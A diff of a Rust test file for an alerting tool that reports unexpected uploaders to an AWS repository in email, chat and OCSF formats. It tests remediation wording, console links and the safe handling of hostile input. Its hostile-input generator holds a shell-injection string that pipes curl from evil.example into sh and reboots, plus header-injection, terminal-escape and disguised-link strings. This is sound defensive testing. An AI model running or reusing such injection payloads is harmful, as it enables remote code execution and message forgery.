@@ -34,7 +34,12 @@ fn main() -> ExitCode {
     let mut trials = trials![
         each_reason_has_its_own_words,
         a_list_and_a_digest_say_what_to_type,
+        a_list_in_ocsf_names_its_findings_and_what_they_share,
+        only_whom_it_is_true_of_is_called_unseen,
+        what_to_do_depends_on_whose_credentials_they_are,
+        an_absence_that_is_not_told_any_more_is_not_said_to_be,
         links_lead_to_the_console_of_the_right_partition,
+        a_partition_whose_console_is_not_known_gets_no_link,
         hostile_strings_keep_every_form_within_its_limits,
         hostile_strings_make_no_link_and_no_command,
         a_chat_gets_names_as_they_are_and_nothing_that_it_obeys,
@@ -201,18 +206,107 @@ fn each_reason_has_its_own_words() {
 }
 
 fn a_list_and_a_digest_say_what_to_type() {
-    let findings: Vec<_> = ["a", "b"]
-        .map(|name| {
-            finding(
-                Reason::NewUploader,
-                &record(name, "2026-01-12T09:00:00Z", &iam_user(name)),
-            )
-        })
-        .into();
+    let by = |name| {
+        record(
+            "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+            "2026-01-12T09:00:00Z",
+            &iam_user(name),
+        )
+    };
+    let nobody = record(
+        "5e1a0c9b-2f64-4f0e-9d7b-6a1c3e8d2b47",
+        "2026-01-12T09:00:01Z",
+        &json!({"invokedBy": "AWS Internal"}),
+    );
+    let findings = [
+        finding(Reason::RevokedUploader, &by("a")),
+        finding(Reason::NewUploader, &by("b")),
+        finding(Reason::UnidentifiedUploader, &nobody),
+    ];
     let rollup = render(Message::Rollup(&findings), Format::Email, &place());
     insta::assert_snapshot!("email_rollup", rollup);
+    let findings = ["a", "b"].map(|name| finding(Reason::LearnedUploader, &by(name)));
     let digest = render(Message::Digest(&findings), Format::Email, &place());
     insta::assert_snapshot!("email_digest", digest);
+}
+
+fn a_list_in_ocsf_names_its_findings_and_what_they_share() {
+    let by = |name, region| {
+        let mut event = record(name, "2026-01-12T09:00:00Z", &iam_user(name));
+        event["awsRegion"] = json!(region);
+        finding(Reason::NewUploader, &event)
+    };
+    let findings = [by("a", "eu-central-1"), by("b", "eu-west-1")];
+    let list = render(Message::Rollup(&findings), Format::Ocsf, &place());
+    let list: Value = serde_json::from_str(&list).unwrap();
+    let related = &list["finding_info"]["related_events"];
+    for (related, finding) in related.as_array().unwrap().iter().zip(&findings) {
+        assert_eq!(related["uid"], json!(finding.id.to_string()));
+        assert_eq!(related["severity"], json!("High"));
+    }
+    assert_eq!(list["count"], json!(2));
+    assert_eq!(list["cloud"]["account"]["uid"], json!("111122223333"));
+    assert_eq!(list["cloud"]["region"], Value::Null);
+}
+
+fn only_whom_it_is_true_of_is_called_unseen() {
+    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
+    for (reason, unseen) in [
+        (Reason::NewUploader, true),
+        (Reason::AttemptedUpload, true),
+        (Reason::RecreatedPrincipal, true),
+        (Reason::LearnedUploader, true),
+        (Reason::RevokedUploader, false),
+        (Reason::ReturnedAfterAbsence, false),
+        (Reason::UnidentifiedUploader, false),
+    ] {
+        let finding = finding(reason, &event);
+        let ocsf = render(Message::Finding(&finding), Format::Ocsf, &place());
+        assert_eq!(ocsf.contains("UNSEEN"), unseen, "{reason}");
+    }
+}
+
+fn what_to_do_depends_on_whose_credentials_they_are() {
+    let with = |name: &str| {
+        let event = samples().into_iter().find(|(file, _)| file == name);
+        let finding = finding(Reason::NewUploader, &event.unwrap().1);
+        render(Message::Finding(&finding), Format::Email, &place()).replace("\n  ", " ")
+    };
+    for (sample, words) in [
+        ("iam-user", "aws iam list-access-keys --user-name test"),
+        ("role-session-one", "the role's tab \"Revoke sessions\""),
+        ("role-without-issuer", "iam/home#/roles/details/"),
+        ("sso-user", "In IAM Identity Center, disable"),
+        ("identity-center-user", "In IAM Identity Center, disable"),
+        ("root", "Sign in as the root user"),
+        ("federated-user", "disable the access keys of that user"),
+        (
+            "other-account",
+            "take that account out of the repository's policy",
+        ),
+    ] {
+        let email = with(sample);
+        assert!(email.contains(words), "{sample}: {email}");
+    }
+    // Whoever is revoked need not be revoked again.
+    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
+    let finding = finding(Reason::RevokedUploader, &event);
+    let email = render(Message::Finding(&finding), Format::Email, &place());
+    assert!(!email.contains("uploaders revoke arn"), "{email}");
+}
+
+fn an_absence_that_is_not_told_any_more_is_not_said_to_be() {
+    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
+    let finding = finding(Reason::ReturnedAfterAbsence, &event);
+    let with = |absence_days| {
+        let place = Place {
+            absence_days,
+            ..place()
+        };
+        render(Message::Finding(&finding), Format::Email, &place)
+    };
+    assert!(with(30).contains("after more than 30 days"));
+    assert!(with(0).contains("Last seen 2025-06-01T00:00:00Z.") && !with(0).contains("0 days"));
 }
 
 fn links_lead_to_the_console_of_the_right_partition() {
@@ -250,6 +344,22 @@ fn links_lead_to_the_console_of_the_right_partition() {
     }
 }
 
+fn a_partition_whose_console_is_not_known_gets_no_link() {
+    let mut event = record(
+        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+        "2026-01-12T09:00:00Z",
+        &iam_user("test"),
+    );
+    event["awsRegion"] = json!("us-iso-east-1");
+    let finding = finding(Reason::NewUploader, &event);
+    let email = render(Message::Finding(&finding), Format::Email, &place());
+    assert!(!email.contains("https://"), "{email}");
+    assert!(
+        email.contains("Look for event ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af"),
+        "{email}"
+    );
+}
+
 /// What attackers write, and what breaks formats.
 fn hostile() -> impl Strategy<Value = String> {
     prop_oneof![
@@ -258,6 +368,10 @@ fn hostile() -> impl Strategy<Value = String> {
         // A link only together, as repository and tag.
         prop::sample::select(vec!["http", "//evil.example/x"]).prop_map(str::to_owned),
         Just("HTTPS://EVIL.EXAMPLE www.evil.example".to_owned()),
+        // Lawful as a repository, and a link without a scheme.
+        Just("evil.com/login".to_owned()),
+        Just("x".repeat(41) + "evil.com"),
+        "x{0,130}evil[.]com[a-z]{0,200}",
         Just("a\r\nSubject: forged\n\n[LOW] all is well".to_owned()),
         Just("\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{202e}gnp\u{200b}".to_owned()),
         Just("'; curl evil.example | sh; $(reboot) `id` \"\\".to_owned()),
@@ -386,6 +500,14 @@ fn a_chat_gets_names_as_they_are_and_nothing_that_it_obeys() {
     });
 }
 
+/// Whether `evil.com` stands there as a word, as mail programs look for it.
+fn has_bare_host(line: &str) -> bool {
+    let lower = line.to_lowercase();
+    lower.match_indices("evil.com").any(|(at, host)| {
+        !lower[at + host.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
+    })
+}
+
 fn hostile_strings_make_no_link_and_no_command() {
     for_hostile_findings(|finding| {
         let list = [finding.clone(), finding.clone()];
@@ -405,15 +527,18 @@ fn hostile_strings_make_no_link_and_no_command() {
             for (number, line) in email.lines().enumerate() {
                 let line = line.trim();
                 // A link is ours, and a command is one whose words are what they seem.
+                let is_link = line.starts_with("https://");
                 for link in ["http://", "www.", "mailto:"] {
-                    assert!(!line.to_lowercase().contains(link), "{line}");
+                    assert!(is_link || !line.to_lowercase().contains(link), "{line}");
                 }
+                assert!(is_link || !has_bare_host(line), "{line}");
                 if line.to_lowercase().contains("https://") {
-                    assert!(line.contains(".console.aws.amazon.com/"), "{line}");
+                    let (host, _) = line["https://".len()..].split_once('/').unwrap();
                     assert!(
-                        line.starts_with("https://") && !line.contains("evil"),
+                        is_link && host.ends_with(".console.aws.amazon.com"),
                         "{line}"
                     );
+                    assert!(!line.contains(' ') && !line.contains("//evil"), "{line}");
                 }
                 let is_command = line.starts_with("pushwatch ") || line.starts_with("aws ");
                 if is_command {
